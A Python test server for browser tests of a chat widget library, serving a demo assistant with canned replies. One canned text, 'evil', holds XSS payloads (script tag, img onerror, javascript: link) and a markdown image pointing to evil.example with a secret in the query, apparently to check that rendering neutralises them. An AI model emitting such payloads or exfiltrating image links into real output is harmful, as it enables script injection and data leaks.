"""The real server for the browser tests: the demo assistant on memory, and what it does not show.

Prints its address. `--word-seconds` is how fast it talks.
"""

import argparse
import asyncio
import socket
import tempfile
from collections.abc import AsyncIterator
from dataclasses import replace
from typing import Any

import uvicorn
from controls import Controls
from starlette.applications import Starlette
from starlette.routing import Route
from widget_scenes import WidgetScenes

from chatkit.actions import Action, ActionConfig
from chatkit.attachments import LocalAttachmentStore
from chatkit.cli.demo.assistant import DemoAssistant
from chatkit.cli.demo.pace import Pace
from chatkit.cli.demo.stage import Stage
from chatkit.cli.demo.talk import text_of
from chatkit.cli.demo.welcome import PAGE
from chatkit.http import create_app
from chatkit.store import MemoryStore
from chatkit.turns import TurnLimits
from chatkit.types import (
    ClosedStatus,
    SyncCustomActionResponse,
    ThreadMetadata,
    ThreadStreamEvent,
    UserMessageItem,
    WidgetItem,
)
from chatkit.widgets import Button, Card

TEXTS = {
    "story": " ".join(f"word{number}" for number in range(300)) + " The end.",
    "deeplink": "Go to [room 7](chatkit-link://room?number=7&floor=2).",
    "evil": (
        "<script>window.top.hacked = 1</script> <img src=x onerror='window.top.hacked=1'>\n\n"
        "[a](javascript:window.top.hacked=1) ![i](https://evil.example/leak.png?secret=1)\n\n"
        "[b](data:text/html,x) [good](https://good.example/)"
    ),
}


class Assistant(DemoAssistant):
    """Knows a few more words than the demo does, and says what a test has written down."""

    def __init__(
        self,
        store: MemoryStore[Any],
        files: LocalAttachmentStore[Any],
        controls: Controls,
        pace: Pace,
        limits: TurnLimits,
    ) -> None:
        super().__init__(store, files, pace=pace)
        self._limits = limits
        self._controls = controls

    scenes = WidgetScenes()

    async def respond(
        self, thread: ThreadMetadata, input_user_message: UserMessageItem | None, context: Any
    ) -> AsyncIterator[ThreadStreamEvent]:
        word = text_of(input_user_message) if input_user_message else ""
        stage = self._stage(thread, context, input_user_message)
        events = self._own_words(word, stage) or super().respond(
            thread, input_user_message, context
        )
        async for event in events:
            yield event

    def _own_words(self, word: str, stage: Stage) -> AsyncIterator[ThreadStreamEvent] | None:
        """What this server alone answers to the word, or None."""
        scene = self.scenes.scene(word, stage)
        if scene is not None:
            return scene
        match word:
            case "script":
                script = self._controls.script
                stage.thread.allowed_image_domains = script.get("allowed_image_domains")
                return replace(stage, pace=self._controls.script_pace(stage.pace)).say(
                    script["text"]
                )
            case "client action":
                return stage.show(page_button())
            case "close":
                stage.thread.status = ClosedStatus(reason="This matter is settled")
        return stage.say(TEXTS[word]) if word in TEXTS else None

    async def action(
        self,
        thread: ThreadMetadata,
        action: Action[str, Any],
        sender: WidgetItem | None,
        context: Any,
    ) -> AsyncIterator[ThreadStreamEvent]:
        events = super().action(thread, action, sender, context)
        if not action.type.startswith("demo."):
            events = self.scenes.act(action, sender, self._stage(thread, context))
        async for event in events:
            yield event

    async def sync_action(
        self,
        thread: ThreadMetadata,
        action: Action[str, Any],
        sender: WidgetItem | None,
        context: Any,
    ) -> SyncCustomActionResponse:
        if action.type.startswith("demo."):
            return await super().sync_action(thread, action, sender, context)
        return await self.scenes.act_at_once(action, sender)


def page_button() -> Card:
    """A card whose button asks the page, and not the server."""
    to_page = ActionConfig(type="page.open", payload={"room": 7}, handler="client")
    return Card(children=[Button(label="Open here", onClickAction=to_page)])


def make_app(arguments: argparse.Namespace) -> Starlette:
    """The app on a store of its own, with the tests' controls beside it."""
    store: MemoryStore[Any] = MemoryStore()
    controls = Controls(store)

    async def pause(seconds: float) -> None:
        # Work is shortened; words keep their pace.
        if not await controls.turnstile.pass_through():
            await asyncio.sleep(min(seconds, max(arguments.word_seconds, 0.05)))

    files: LocalAttachmentStore[Any] = LocalAttachmentStore(
        tempfile.mkdtemp(), upload_method=arguments.upload_method
    )
    pace = Pace(word_seconds=arguments.word_seconds, sleep=pause)
    limits = TurnLimits(heartbeat_seconds=arguments.heartbeat_seconds)
    server = Assistant(store, files, controls, pace, limits)
    routes = [
        *controls.routes(),
        Route("/advance", server.scenes.advance, methods=["POST"]),
    ]
    return create_app(server, page=PAGE, allowed_origins=["*"], routes=routes)


def main() -> None:
    """Serves until it is killed."""
    parser = argparse.ArgumentParser()
    parser.add_argument("--word-seconds", type=float, default=0.002)
    parser.add_argument("--heartbeat-seconds", type=float, default=15.0)
    parser.add_argument("--upload-method", choices=["POST", "PUT"], default="POST")
    app = make_app(parser.parse_args())
    listener = socket.create_server(("127.0.0.1", 0))
    print(f"http://127.0.0.1:{listener.getsockname()[1]}", flush=True)
    config = uvicorn.Config(app, log_config=None, access_log=False)
    uvicorn.Server(config).run(sockets=[listener])


if __name__ == "__main__":
    main()
